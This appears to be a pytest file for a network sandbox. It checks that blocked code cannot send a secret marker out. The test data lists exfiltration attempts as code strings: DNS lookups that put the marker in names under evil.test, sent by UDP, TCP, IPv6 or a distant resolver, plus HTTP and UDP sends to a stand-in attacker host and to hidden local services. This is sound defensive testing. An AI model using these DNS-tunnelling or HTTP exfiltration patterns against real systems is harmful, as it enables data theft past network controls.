"""What is not allowed has no other way out: no packet, no name, no word in a question leaves."""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest

if TYPE_CHECKING:
    from tests.enforcement.network.attacks.conftest import MakeTrial, Trial
    from tests.enforcement.network.conftest import Net, Open

    from stockade.sandbox.blocking import BlockingSandbox

NAMES: dict[str, tuple[str, str]] = {
    "a word below an allowed name": ('end = ask(f"{mark}.web.test")', "code 3, 0 answers"),
    "a long word below an allowed name": ("end = ask(f\"{mark}{'x' * 40}.{'y' * 60}.web.test\")", "code 3, 0 answers"),
    "a word in another name": ('end = ask(f"{mark}.evil.test")', "code 3, 0 answers"),
    "a word in a name that is almost allowed": ('end = ask(f"{mark}web.test")', "code 3, 0 answers"),
    "text": ('end = ask(f"{mark}.evil.test", kind=16)', "code 3, 0 answers"),
    "mail": ('end = ask(f"{mark}.evil.test", kind=15)', "code 3, 0 answers"),
    "any": ('end = ask(f"{mark}.evil.test", kind=255)', "code 3, 0 answers"),
    "by TCP": ('end = ask(f"{mark}.evil.test", tcp=True)', "code 3, 0 answers"),
    "a server far away": ('end = ask(f"{mark}.evil.test", server=facts["far"])', "code 3, 0 answers"),
    "a server far away by TCP": ('end = ask(f"{mark}.evil.test", server=facts["far"], tcp=True)', "code 3, 0 answers"),
    "a server far away by IPv6": ('end = ask(f"{mark}.evil.test", server=facts["far6"])', "code 3, 0 answers"),
    "letters of both cases": ('end = ask(f"{mark}.EvIl.TeSt".replace("m", "m"))', "code 3, 0 answers"),
}
FAR = {
    "far": (("127.0.0.1", 0), ("8.8.8.8", 53)),
    "far6": (("127.0.0.1", 0), ("2001:4860:4860::8888", 53)),
}
WAYS: dict[str, tuple[str, str]] = {
    "a service of the host by TCP": (
        "connect('127.0.0.1', facts['hidden']).sendall(f'GET /{mark} HTTP/1.1\\r\\n\\r\\n'.encode()); time.sleep(0.1)",
        "ECONNREFUSED",
    ),
    "a service of the host by UDP": (
        """
stream = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
stream.connect(("127.0.0.1", facts["udp"]))
stream.send(mark.encode())
time.sleep(0.1)
stream.send(mark.encode())
""",
        "ECONNREFUSED",
    ),
    "a name in the clear": (
        "connect('evil.test', facts['http']).sendall(f'GET /{mark} HTTP/1.1\\r\\n\\r\\n'.encode()); time.sleep(0.1)",
        "gaierror: [Errno -2] Name or service not known",
    ),
    "an empty environment": (
        """
import subprocess
words = f"import urllib.request as u; u.urlopen('http://evil.test:{facts['http']}/{mark}', timeout=5)"
done = subprocess.run([sys.executable, "-I", "-c", words], env={}, capture_output=True)
end = f"exit {done.returncode}"
""",
        "exit 1",
    ),
}


@pytest.fixture(scope="module", params=["nothing", "something"])
def allowed(request: pytest.FixtureRequest, net: Net, opened: Open) -> BlockingSandbox:
    """A sandbox that may reach nothing, and one that may reach something else."""
    return opened(*(() if request.param == "nothing" else net.allow("web.test")))


@pytest.fixture(scope="module")
def names(net: Net, allowed: BlockingSandbox, make_trial: MakeTrial) -> Trial:
    port = net.names.port
    far = {name: (("127.0.0.1", port), inside) for name, (_, inside) in FAR.items()}
    return make_trial(NAMES, allowed, **far)


@pytest.fixture(scope="module")
def ways(allowed: BlockingSandbox, make_trial: MakeTrial) -> Trial:
    return make_trial(WAYS, allowed)


@pytest.mark.parametrize("name", NAMES)
def test_no_word_leaves_in_a_question_for_a_name(names: Trial, name: str) -> None:
    names.judge(name, NAMES[name][1])


@pytest.mark.parametrize("name", WAYS)
def test_there_is_no_way_beside_the_proxies(ways: Trial, name: str) -> None:
    ways.judge(name, WAYS[name][1])


def test_allowed_names_are_answered_with_addresses_that_lead_nowhere_else(net: Net, opened: Open) -> None:
    sandbox = opened(*net.allow("web.test"))
    assert sandbox.run("getent ahostsv4 web.test | cut -d. -f1,2 | sort -u").output == "198.18\n"
    before = len(net.journal)
    assert sandbox.run("getent hosts web.test other.test evil.test").exit_code == 2
    assert net.journal.since(before) == [], "our own names are answered without asking anybody"
